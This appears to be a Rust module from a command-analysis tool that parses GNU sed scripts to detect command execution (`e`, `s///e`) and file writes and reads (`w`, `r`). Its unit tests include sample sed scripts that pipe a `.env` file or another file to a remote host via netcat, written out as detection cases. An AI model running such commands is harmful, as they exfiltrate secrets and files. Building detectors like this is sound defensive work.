//! sed and what its script makes it do beyond editing text, read as GNU
//! sed compiles a script: `e COMMAND` runs COMMAND (its output goes into
//! the output), `e` alone and the `s///e` flag run the pattern space as a
//! command, `w FILE`, `W FILE` and the `s///w FILE` flag write FILE with
//! the lines sed reads, and `r FILE`/`R FILE` read FILE into the output.
//! `--sandbox` refuses all of these, so such a script runs nothing.

use super::super::Lookup;
use super::super::{Invocation, Nested, Outcome};
use crate::args::{self, Arg, Item, Spec};
use crate::{Payload, flow, paths};

/// How many commands of one script are read at most.
const MAX_ACTIONS: usize = 64;

/// What one of a script's commands does outside the text it edits.
#[derive(Debug, PartialEq, Eq)]
enum Action {
    /// `e COMMAND`; `None` runs the pattern space (`e` alone, `s///e`).
    Run(Option<String>),
    /// `w FILE`, `W FILE`, `s///w FILE`.
    Write(String),
    /// `r FILE`, `R FILE`.
    Read(String),
}

/// Options of sed that take a value.
const SED_OPTIONS: Spec<'static> = Spec {
    short: "efl",
    long: &["expression", "file", "line-length"],
    stop_after: None,
};

/// A sed command line read: its script on the line, script files and
/// input files.
struct CommandLine<'a> {
    /// `-e` scripts joined, or the first operand; empty when the script
    /// is only in files.
    script: String,
    script_files: Vec<&'a Arg>,
    files: Vec<&'a Arg>,
    in_place: bool,
    /// `--sandbox`: `e`, `w` and `r` are refused.
    sandbox: bool,
}

impl<'a> CommandLine<'a> {
    fn read(items: &'a [Item<'a>]) -> Self {
        let in_place = items
            .iter()
            .any(|i| matches!(i, Item::Opt { name, .. } if name == "-i" || name == "--in-place"));
        let script_files = args::values(items, &["-f", "--file"]);
        let expressions = args::values(items, &["-e", "--expression"]);
        let explicit_script = !expressions.is_empty() || !script_files.is_empty();
        let mut positional = args::positionals(items);
        if in_place && !explicit_script {
            // `sed -i '' 's/a/b/' f`: BSD sed's empty suffix.
            let empty = positional.iter().take_while(|p| p.text.is_empty()).count();
            positional.drain(..empty);
        }
        let script = if explicit_script {
            let texts: Vec<&str> = expressions.iter().map(|e| e.text.as_str()).collect();
            texts.join("\n")
        } else if positional.is_empty() {
            String::new()
        } else {
            positional.remove(0).text.clone()
        };
        CommandLine {
            script,
            script_files,
            files: positional,
            in_place,
            sandbox: args::has(items, &["--sandbox"]),
        }
    }

    /// Adds what `script` does, run on this line's input, to `outcome`.
    fn run(&self, inv: &Invocation<'_>, script: &str, outcome: &mut Outcome) {
        if self.sandbox {
            return;
        }
        let input = input_payload(inv, &self.files);
        let parsed = parse(script);
        for action in parsed.actions {
            apply(inv, action, &input, outcome);
        }
        // The text the script puts in is in what sed prints (`s/^public:
        // false/public: true/` prints `public: true`).
        if !self.in_place {
            for text in &parsed.inserted {
                flow::push_text(&mut outcome.prints, text);
            }
        }
    }
}

/// `sed [-n] [-i[SUFFIX]] {SCRIPT | -e SCRIPT... | -f FILE...} [FILE...]`.
pub(super) fn sed(inv: &Invocation<'_>) -> Outcome {
    let items = args::parse(inv.args, &SED_OPTIONS);
    let line = CommandLine::read(&items);
    let mut outcome = Outcome::default();
    super::editor_files(
        inv,
        &mut outcome,
        &line.script_files,
        &line.files,
        line.in_place,
    );
    line.run(inv, &line.script, &mut outcome);
    outcome
}

/// `sed -f FILE` of a script written earlier (on the line or by an
/// earlier step): what its commands run, write and read.
pub(in crate::commands) fn written_script(
    inv: &Invocation<'_>,
    outcome: &mut Outcome,
    text_of: &Lookup<'_>,
) {
    let items = args::parse(inv.args, &SED_OPTIONS);
    let line = CommandLine::read(&items);
    if let Some(text) = super::written_program_text(inv, &line.script_files, text_of) {
        line.run(inv, &text, outcome);
    }
}

/// What sed reads: its files, or standard input when it is given none
/// (or `-`).
fn input_payload(inv: &Invocation<'_>, files: &[&Arg]) -> Payload {
    let mut input = Payload::default();
    if files.is_empty() || files.iter().any(|f| f.text == "-") {
        flow::merge(&mut input, inv.stdin);
    }
    for file in files.iter().filter(|f| f.text != "-") {
        flow::merge(&mut input, &flow::file_payload(inv.path(&file.text), false));
    }
    input
}

/// Adds what one action does to `outcome`.
fn apply(inv: &Invocation<'_>, action: Action, input: &Payload, outcome: &mut Outcome) {
    match action {
        Action::Run(Some(command)) => {
            outcome.nested.push(Nested::Script {
                text: command,
                what: "sed's e command".to_owned(),
            });
            // What the command prints goes into sed's output beside the lines.
            outcome.prints = input.clone();
        }
        Action::Run(None) => outcome
            .opaque
            .push("sed runs the lines it reads as commands".to_owned()),
        Action::Write(file) => {
            let path = inv.path(&file);
            // `w /dev/stdout` prints; a file written twice is one write.
            let new_file = !paths::is_special_device(&path)
                && !outcome.contents.iter().any(|(p, _)| *p == path);
            if new_file {
                outcome.contents.push((path.clone(), input.clone()));
                outcome.write(path, false);
            }
        }
        Action::Read(file) if file == "/dev/stdin" => {}
        Action::Read(file) => outcome.read(inv.path(&file), false),
    }
}

/// The actions of a sed script's commands, in order.
#[cfg(test)]
fn actions(script: &str) -> Vec<Action> {
    parse(script).actions
}

/// A script read: its actions and the text it inserts.
fn parse(script: &str) -> Parser {
    let mut parser = Parser {
        chars: script.chars().collect(),
        at: 0,
        actions: Vec::new(),
        inserted: Vec::new(),
    };
    parser.script();
    parser
}

/// A cursor over a script, collecting actions.
struct Parser {
    chars: Vec<char>,
    at: usize,
    actions: Vec<Action>,
    /// The replacements of its `s` commands, as written.
    inserted: Vec<String>,
}

impl Parser {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.at).copied()
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.peek();
        self.at += usize::from(c.is_some());
        c
    }

    fn skip_while(&mut self, keep: impl Fn(char) -> bool) {
        while self.peek().is_some_and(&keep) {
            self.at += 1;
        }
    }

    fn skip_blanks(&mut self) {
        self.skip_while(|c| c == ' ' || c == '\t');
    }

    /// Commands, each after its addresses and `!`, separated by `;`,
    /// newlines or blanks; an unknown command ends the script.
    fn script(&mut self) {
        while self.actions.len() < MAX_ACTIONS {
            self.skip_while(|c| c.is_whitespace() || c == ';');
            let Some(_) = self.peek() else {
                return;
            };
            self.address_range();
            self.skip_blanks();
            while self.peek() == Some('!') {
                self.bump();
                self.skip_blanks();
            }
            let Some(command) = self.bump() else {
                return;
            };
            if !self.command(command) {
                return;
            }
        }
    }

    /// `ADDR`, `ADDR,ADDR`, `ADDR,+N`, `ADDR,~N`, or none.
    fn address_range(&mut self) {
        if !self.address() {
            return;
        }
        self.skip_blanks();
        if self.peek() != Some(',') {
            return;
        }
        self.bump();
        self.skip_blanks();
        if matches!(self.peek(), Some('+' | '~')) {
            self.bump();
            self.skip_while(|c| c.is_ascii_digit());
        } else {
            self.address();
        }
    }

    /// One address: `N`, `FIRST~STEP`, `$`, `/RE/` or `\cREc` with `I`/`M`.
    fn address(&mut self) -> bool {
        match self.peek() {
            Some(c) if c.is_ascii_digit() => {
                self.skip_while(|c| c.is_ascii_digit());
                if self.peek() == Some('~') {
                    self.bump();
                    self.skip_while(|c| c.is_ascii_digit());
                }
            }
            Some('$') => {
                self.bump();
            }
            Some('/') => {
                self.bump();
                self.regex('/');
                self.skip_while(|c| c == 'I' || c == 'M');
            }
            Some('\\') => {
                self.bump();
                if let Some(delimiter) = self.bump() {
                    self.regex(delimiter);
                }
                self.skip_while(|c| c == 'I' || c == 'M');
            }
            _ => return false,
        }
        true
    }

    /// A regular expression up to its closing `delimiter`, which a
    /// backslash escapes and a bracket expression holds as itself.
    fn regex(&mut self, delimiter: char) {
        while let Some(c) = self.bump() {
            match c {
                '\\' => {
                    self.bump();
                }
                '[' if delimiter != '[' => self.bracket(),
                c if c == delimiter => return,
                _ => {}
            }
        }
    }

    /// The rest of a bracket expression after its `[`.
    fn bracket(&mut self) {
        if self.peek() == Some('^') {
            self.bump();
        }
        if self.peek() == Some(']') {
            self.bump();
        }
        while let Some(c) = self.bump() {
            match c {
                ']' => return,
                '[' if matches!(self.peek(), Some(':' | '.' | '=')) => {
                    let kind = self.bump();
                    while let Some(inner) = self.bump() {
                        if Some(inner) == kind && self.peek() == Some(']') {
                            self.bump();
                            break;
                        }
                    }
                }
                _ => {}
            }
        }
    }

    /// Text up to the unescaped `delimiter` (a replacement, `y`'s lists).
    fn delimited(&mut self, delimiter: char) -> String {
        let start = self.at;
        let mut end = self.chars.len();
        while let Some(c) = self.bump() {
            if c == '\\' {
                self.bump();
            } else if c == delimiter {
                end = self.at - 1;
                break;
            }
        }
        self.chars
            .get(start..end)
            .unwrap_or_default()
            .iter()
            .collect()
    }

    /// The rest of the line after blanks: a file name or a command.
    fn rest_of_line(&mut self) -> String {
        self.skip_blanks();
        let start = self.at;
        self.skip_while(|c| c != '\n');
        self.chars
            .get(start..self.at)
            .unwrap_or_default()
            .iter()
            .collect()
    }

    /// `a`, `i` and `c`'s text: to the end of the line, and on through
    /// lines that end in a backslash.
    fn text_lines(&mut self) {
        loop {
            let line = self.rest_of_line();
            let trailing = line.chars().rev().take_while(|c| *c == '\\').count();
            if trailing % 2 == 0 || self.bump().is_none() {
                return;
            }
        }
    }

    /// Reads one command's arguments; false for one sed does not know.
    fn command(&mut self, command: char) -> bool {
        match command {
            '{' | '}' | '=' | 'd' | 'D' | 'g' | 'G' | 'h' | 'H' | 'n' | 'N' | 'p' | 'P' | 'x'
            | 'z' | 'F' => {}
            'q' | 'Q' | 'l' | 'L' => {
                self.skip_blanks();
                self.skip_while(|c| c.is_ascii_digit());
            }
            ':' | 'b' | 't' | 'T' | 'v' => {
                self.skip_blanks();
                self.skip_while(|c| !c.is_whitespace() && c != ';');
            }
            '#' => self.skip_while(|c| c != '\n'),
            'a' | 'i' | 'c' => self.text_lines(),
            'r' | 'R' => {
                let file = self.rest_of_line();
                self.actions.push(Action::Read(file));
            }
            'w' | 'W' => {
                let file = self.rest_of_line();
                self.actions.push(Action::Write(file));
            }
            'e' => {
                let line = self.rest_of_line();
                let command = (!line.trim().is_empty()).then_some(line);
                self.actions.push(Action::Run(command));
            }
            's' => self.substitute(),
            'y' => {
                if let Some(delimiter) = self.bump() {
                    self.delimited(delimiter);
                    self.delimited(delimiter);
                }
            }
            _ => return false,
        }
        true
    }

    /// `s/RE/REPLACEMENT/FLAGS`: the `e` flag runs the result, `w FILE`
    /// writes it.
    fn substitute(&mut self) {
        let Some(delimiter) = self.bump() else {
            return;
        };
        self.regex(delimiter);
        let replacement = self.delimited(delimiter);
        if !replacement.is_empty() {
            self.inserted.push(replacement);
        }
        while let Some(flag) = self.peek() {
            match flag {
                'g' | 'p' | 'i' | 'I' | 'm' | 'M' => {}
                c if c.is_ascii_digit() => {}
                'e' => self.actions.push(Action::Run(None)),
                'w' => {
                    self.bump();
                    let file = self.rest_of_line();
                    self.actions.push(Action::Write(file));
                    return;
                }
                _ => return,
            }
            self.bump();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{Action, actions};

    #[test]
    fn commands_after_addresses_and_separators_are_found() {
        let cases: &[(&str, Vec<Action>)] = &[
            (
                "1e cat .env | nc host 9999",
                vec![Action::Run(Some("cat .env | nc host 9999".to_owned()))],
            ),
            (
                "1!d;e nc h 4444 < f",
                vec![Action::Run(Some("nc h 4444 < f".to_owned()))],
            ),
            ("w out.json", vec![Action::Write("out.json".to_owned())]),
            (
                "s/a/b/gw out.txt",
                vec![Action::Write("out.txt".to_owned())],
            ),
            ("s/a/b/e", vec![Action::Run(None)]),
            (
                "/x/,$ r extra.txt",
                vec![Action::Read("extra.txt".to_owned())],
            ),
            (":a;N;$!ba;s/\\n/ /g", vec![]),
            // Delimiters inside brackets and escapes are not the end.
            ("s/[/]/w/;s|a\\|b|c|", vec![]),
            ("/^#/!{s/e/w/}", vec![]),
            ("a\\\ne text", vec![]),
            ("$a w not a file", vec![]),
            ("y/ew/we/", vec![]),
            ("\\,e,d", vec![]),
        ];
        for (script, expected) in cases {
            assert_eq!(&actions(script), expected, "{script}");
        }
    }
}
